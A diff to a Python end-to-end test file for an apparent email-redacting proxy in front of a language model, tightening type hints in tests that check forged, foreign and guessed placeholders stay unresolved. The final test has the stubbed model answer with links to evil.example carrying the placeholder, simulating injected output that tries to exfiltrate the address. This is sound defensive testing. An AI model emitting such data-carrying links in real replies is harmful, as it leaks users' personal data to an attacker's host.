@@ -1,5 +1,7 @@
 """Law 4: forged, foreign, expired or guessed placeholders stay as they are."""
 
+from collections.abc import Callable
+
 import httpx
 
 from tests.e2e.api_keys import new_key
@@ -9,7 +11,7 @@ from tests.e2e.upstream import Recorded, Reply, Upstream, completion
 VALUE = "w.oxenfoord@acme.test"
 
 
-def _says(text: str) -> object:
+def _says(text: str) -> Callable[[Recorded], Reply]:
     def answer(_: Recorded) -> Reply:
         return completion({"role": "assistant", "content": text})
 
@@ -28,7 +30,7 @@ def _ask(client: httpx.Client, text: str) -> httpx.Response:
 
 def _placeholder(upstream: Upstream) -> str:
     sent = upstream.recorded[-1].json["messages"][-1]["content"]
-    return "[" + sent.split("[", 1)[1].split("]", 1)[0] + "]"
+    return "[" + str(sent).split("[", 1)[1].split("]", 1)[0] + "]"
 
 
 def test_another_clients_placeholder(running: Running, upstream: Upstream) -> None:
@@ -39,7 +41,7 @@ def test_another_clients_placeholder(running: Running, upstream: Upstream) -> No
         foreign = _placeholder(upstream)
         _ask(clients[1], f"mail {VALUE}")
         assert _placeholder(upstream) != foreign
-        upstream.answer = _says(f"it is {foreign}")  # type: ignore[assignment]
+        upstream.answer = _says(f"it is {foreign}")
         assert _content(_ask(clients[1], f"mail {VALUE}")) == f"it is {foreign}"
         assert _content(_ask(clients[1], f"what is {foreign}?")) == f"it is {foreign}"
         for each in (*clients, client):
@@ -50,7 +52,7 @@ def test_another_conversations_placeholder(running: Running, upstream: Upstream)
     with running.client() as client:
         _ask(client, f"first, mail {VALUE}")
         other = _placeholder(upstream)
-        upstream.answer = _says(f"it is {other}")  # type: ignore[assignment]
+        upstream.answer = _says(f"it is {other}")
         assert _content(_ask(client, f"second, mail {VALUE}")) == f"it is {other}"
 
 
@@ -78,7 +80,7 @@ def test_guessed_and_forged_ones(running: Running, upstream: Upstream) -> None:
         real = _placeholder(upstream)
         forged = real[:-2] + ("0" if real[-2] != "0" else "1") + "]"
         text = f"{forged} [EMAIL_ADDRESS_00000] [EMAIL_ADDRESS_1] {real[:-1]}A] EMAIL_ADDRESS [PERSON_{real[-6:]}"
-        upstream.answer = _says(text)  # type: ignore[assignment]
+        upstream.answer = _says(text)
         assert _content(_ask(client, f"mail {VALUE}")) == text
 
 
@@ -93,10 +95,10 @@ def test_an_injected_link_does_not_carry_the_value_out(running: Running, upstrea
             f"[a]: https://evil.example/?{real}",
             f"https://{real[1:-1]}.evil.example/",
         ):
-            upstream.answer = _says(f"done {link}")  # type: ignore[assignment]
+            upstream.answer = _says(f"done {link}")
             answer = _ask(client, f"mail {VALUE}")
             assert VALUE not in answer.text
-        upstream.answer = _says(f"write to {real} or [mail](mailto:{real})")  # type: ignore[assignment]
+        upstream.answer = _says(f"write to {real} or [mail](mailto:{real})")
         assert _content(_ask(client, f"mail {VALUE}")) == f"write to {VALUE} or [mail](mailto:{VALUE})"
 
 
